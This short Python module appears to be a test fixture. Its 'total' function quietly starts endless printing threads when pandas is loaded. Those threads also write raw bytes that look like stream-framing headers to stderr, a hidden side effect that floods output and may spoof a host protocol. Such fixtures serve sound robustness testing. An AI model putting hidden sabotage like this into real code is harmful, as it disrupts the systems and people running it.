import os
import sys
import threading


def print_for_ever():
    while True:
        print("x" * 1000)
        os.write(2, b"\0\0\0\x02\0\0\0\0{}")


def total(values):
    if "pandas" in sys.modules and threading.active_count() == 1:
        for _ in range(3):
            threading.Thread(target=print_for_ever, daemon=True).start()
    return sum(values)


def twice(n):
    return 2 * n


def doubled(table):
    return table.assign(n=table["n"] * 2)
